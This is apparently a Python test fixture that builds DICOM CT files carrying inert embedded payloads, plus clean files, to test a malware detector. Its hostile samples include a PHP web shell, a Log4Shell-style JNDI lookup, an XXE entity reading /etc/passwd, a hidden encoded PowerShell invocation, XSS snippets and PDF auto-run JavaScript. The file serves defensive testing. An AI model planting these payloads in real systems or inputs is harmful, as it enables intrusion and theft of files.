"""Data sets made for detection tests: sound ones, and ones with inert payloads. Nothing in them does anything."""

from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Sequence

from tests.see.wire.dicom_bytes import BIG, EXPLICIT, IMPLICIT

PIXELS = 0x7FE0_0010
JPEG = "1.2.840.10008.1.2.4.50"
DEFLATED = "1.2.840.10008.1.2.1.99"
LONG_VR = ("OB", "OD", "OF", "OL", "OV", "OW", "SQ", "SV", "UC", "UN", "UR", "UT", "UV")
NEVER = 0xFFFF_FFFF

# In two parts, so that no scanner takes this file for the test file itself.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"

Element = tuple[int, str, bytes]


def element(tag: int, vr: str, value: bytes, syntax: str = EXPLICIT, length: int | None = None) -> bytes:
    """One element; `length` is what it says, if that is not true."""
    size = len(value) if length is None else length
    order = ">" if syntax == BIG else "<"
    head = struct.pack(order + "HH", tag >> 16, tag & 0xFFFF)
    if syntax == IMPLICIT:
        return head + struct.pack("<I", size) + value
    if vr in LONG_VR:
        return head + vr.encode() + struct.pack(order + "xxI", size) + value
    return head + vr.encode() + struct.pack(order + "H", size) + value


def item(content: bytes, syntax: str = EXPLICIT, *, undefined: bool = False) -> bytes:
    """One item of a sequence, or one fragment."""
    order = ">" if syntax == BIG else "<"
    if undefined:
        return (
            struct.pack(order + "HHI", 0xFFFE, 0xE000, NEVER) + content + struct.pack(order + "HHI", 0xFFFE, 0xE00D, 0)
        )
    return struct.pack(order + "HHI", 0xFFFE, 0xE000, len(content)) + content


def sequence(tag: int, items: Sequence[bytes], syntax: str = EXPLICIT, *, undefined: bool = False) -> bytes:
    """A sequence of items."""
    order = ">" if syntax == BIG else "<"
    content = b"".join(items)
    if undefined:
        end = struct.pack(order + "HHI", 0xFFFE, 0xE0DD, 0)
        return element(tag, "SQ", content + end, syntax, NEVER)
    return element(tag, "SQ", content, syntax)


def fragments(*pieces: bytes) -> bytes:
    """The encapsulated value of pixel data, with an empty offset table."""
    return item(b"") + b"".join(item(piece) for piece in pieces) + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)


def noise(size: int, seed: int = 1) -> bytes:
    """Bytes as compressed or noisy pixels have them."""
    return random.Random(seed).randbytes(size)


def ct(
    *extra: bytes, pixels: bytes | None = None, after: bytes = b"", syntax: str = EXPLICIT, encapsulated: bool = False
) -> bytes:
    """A small CT with elements between the head and the pixels, and bytes after them."""
    value = noise(8192) if pixels is None else pixels
    head = b"".join(
        element(tag, vr, text, syntax)
        for tag, vr, text in (
            (0x0008_0016, "UI", b"1.2.840.10008.5.1.4.1.1.2\0"),
            (0x0008_0018, "UI", b"1.2.826.0.1.99.7"),
            (0x0008_0060, "CS", b"CT"),
            (0x0008_0070, "LO", b"ACME MEDICAL"),
            (0x0020_000D, "UI", b"1.2.826.0.1.99"),
            (0x0028_0010, "US", b"\x40\x00"),
        )
    )
    length = NEVER if encapsulated else len(value)
    return head + b"".join(extra) + element(PIXELS, "OB" if encapsulated else "OW", value, syntax, length) + after


def private(value: bytes, vr: str = "OB", syntax: str = EXPLICIT) -> bytes:
    """A private block with one element."""
    creator = element(0x0029_0010, "LO", b"ACME PRIVATE", syntax)
    return creator + element(0x0029_1008, vr, value + b"\0" * (len(value) % 2), syntax)


def program() -> bytes:
    """A PE whose entry would only return."""
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
    return b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + coff + b"\x0b\x02" + bytes(238) + b"\xc3"


def elf() -> bytes:
    """The head of an ELF program for x86-64."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(40)


def archive(*names: str) -> bytes:
    """A ZIP archive with a few inert files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name in names:
            made.writestr(name, "inert")
    return out.getvalue()


def file_within(start: bytes) -> bytes:
    """A DICOM file whose preamble begins with `start`."""
    return start.ljust(128, b"\0") + b"DICM" + element(0x0002_0000, "UL", struct.pack("<I", 0))


def nested(depth: int, syntax: str = EXPLICIT, *, undefined: bool = False) -> bytes:
    """Sequences within sequences."""
    content = element(0x0008_0060, "CS", b"CT", syntax)
    for _ in range(depth):
        content = sequence(0x0040_A730, [item(content, syntax, undefined=undefined)], syntax, undefined=undefined)
    return content


PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PDF_CODE = PDF.replace(b"/Pages", b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> /Pages")
PDF_VEILED = PDF_CODE.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/Js ")
VBA = "_VBA_PROJECT".encode("utf-16-le")

HOSTILE: dict[str, tuple[str, bytes]] = {
    # name: (rule or structure, data set)
    "eicar private": ("eicar", ct(private(EICAR))),
    "eicar nested": ("eicar", ct(sequence(0x0008_1140, [item(element(0x0008_0070, "LO", EICAR))]))),
    "eicar in a document": ("eicar", ct(element(0x0042_0011, "OB", PDF + EICAR + b"\n"))),
    "eicar after the pixels": ("eicar", ct(after=element(0x7FE1_0010, "LO", b"X") + element(0x7FE1_1001, "OB", EICAR))),
    "eicar as padding": ("eicar", ct(after=element(0xFFFC_FFFC, "OB", EICAR))),
    "eicar trailing": ("eicar", ct(after=EICAR)),
    "eicar in fragments": ("eicar", ct(pixels=fragments(noise(600_000), noise(100) + EICAR), encapsulated=True)),
    "PE private": ("pe-program", ct(private(program()))),
    "PE in fragments": ("pe-program", ct(pixels=fragments(noise(300_000) + program()), encapsulated=True)),
    "DOS words": ("dos-stub", ct(private(b"This program cannot be run in DOS mode.\r\r\n$"))),
    "ELF private": ("elf-program", ct(private(elf()))),
    "Mach-O private": ("macho-program", ct(private(b"\xcf\xfa\xed\xfe\x0c\x00\x00\x01" + bytes(24)))),
    "Java class": ("java-class", ct(private(b"\xca\xfe\xba\xbe\x00\x00\x00\x3d\x00\x1d\x0a\x00\x02"))),
    "shortcut": ("windows-shortcut", ct(private(bytes.fromhex("4c0000000114020000000000c000000000000046")))),
    "file with a program as preamble": ("preamble-program", ct(private(file_within(b"MZ")))),
    "file with a script as preamble": ("preamble-program", ct(private(file_within(b"#!")))),
    "shell": ("shell-script", ct(private(b"#!/bin/sh\necho inert\n"))),
    "env python": ("shell-script", ct(private(b"#!/usr/bin/env python3\n"))),
    "PowerShell": ("powershell", ct(element(0x0010_4000, "LT", b"powershell -nop -w hidden -enc AAAA "))),
    "PowerShell in UTF-16": ("powershell", ct(private("Invoke-Expression".encode("utf-16-le")))),
    "batch": ("windows-script", ct(private(b"@echo off\r\n"))),
    "script host": ("windows-script", ct(private(b'CreateObject("WScript.Shell")'))),
    "HTML": ("html-active", ct(element(0x0008_1030, "LO", b"<script>alert(1)</script> "))),
    "HTML handler": ("html-active", ct(element(0x0008_1030, "LO", b"<img src=x onerror=alert(1)> "))),
    "PHP": ("web-shell", ct(private(b"<?php system($_GET['c']); ?>"))),
    "JSP": ("web-shell", ct(private(b'<%@ page import="java.util.*" %>'))),
    "log lookup": ("log-lookup", ct(element(0x0010_0010, "PN", b"${jndi:ldap://192.0.2.1/a} "))),
    "veiled log lookup": ("log-lookup", ct(element(0x0010_0010, "PN", b"${${lower:j}ndi:ldap://192.0.2.1/a}"))),
    "XML entity": ("xml-outside", ct(private(b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))),
    "PDF with code": ("pdf-code", ct(element(0x0042_0011, "OB", PDF_CODE))),
    "PDF with veiled code": ("pdf-code", ct(element(0x0042_0011, "OB", PDF_VEILED))),
    "macros": ("office-macro", ct(private(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(64) + VBA))),
    "RTF object": ("rtf-object", ct(private(b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}"))),
    "archive with a program": ("archive-program", ct(private(archive("readme.txt", "setup.exe")))),
    "JAR": ("java-archive", ct(private(archive("META-INF/MANIFEST.MF")))),
    "archive appended": ("archive", ct(after=archive("a.txt"))),
    "nesting": ("nesting", ct(nested(3000, undefined=True))),
    "nesting of known length": ("nesting", ct(nested(300))),
    "length beyond": ("length-beyond", ct(element(0x7FE1_1001, "OB", b"", length=1 << 30))),
    "length beyond, nested": ("length-beyond", ct(element(0x0008_1140, "SQ", item(b""), length=1 << 24))),
}  # fmt: skip

LEGITIMATE: dict[str, bytes] = {
    "plain CT": ct(),
    "empty": b"",
    "private values": ct(private(noise(5000, 3))),
    "magic bytes in pixels": ct(pixels=program() + elf() + EICAR + b"<script>" + archive("a.exe") + noise(100)),
    "a fake tag in a private value": ct(private(element(PIXELS, "OW", bytes(100)))),
    "encapsulated PDF": ct(element(0x0042_0011, "OB", PDF)),
    "parameters in an archive": ct(private(archive("protocol.xml", "protocol.json", "META-INF/container.xml"))),
    "icon": ct(sequence(0x0088_0200, [item(element(PIXELS, "OW", noise(512)))])),
    "sequences of unknown length": ct(nested(9, undefined=True)),
    "sequences of known length": ct(nested(9)),
    "delimited items of known length": ct(
        sequence(0x0008_1140, [item(element(0x0008_0060, "CS", b"CT") + struct.pack("<HHI", 0xFFFE, 0xE00D, 0))])
    ),
    "implicit inside unknown": ct(
        element(
            0x0009_1010,
            "UN",
            item(element(0x0008_0060, "CS", b"CT", IMPLICIT), undefined=True) + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0),
            length=NEVER,
        )
    ),
    "fragments": ct(pixels=fragments(noise(200_000), noise(100_000, 2)), encapsulated=True),
    "no pixels": element(0x0008_0060, "CS", b"SR") + nested(3),
    "padding": ct(after=element(0xFFFC_FFFC, "OB", bytes(512))),
    "one byte too much": ct(after=b"\0"),
    "broken private sequence": ct(element(0x0009_1010, "SQ", noise(64))),
    "a VR that is none": ct(element(0x0009_1010, "ZZ", b"ab")),
    "text with angles": ct(element(0x0008_1030, "LO", b"THORAX <2mm> on=1 & [script] ")),
}  # fmt: skip
"""Name → data set that must pass."""
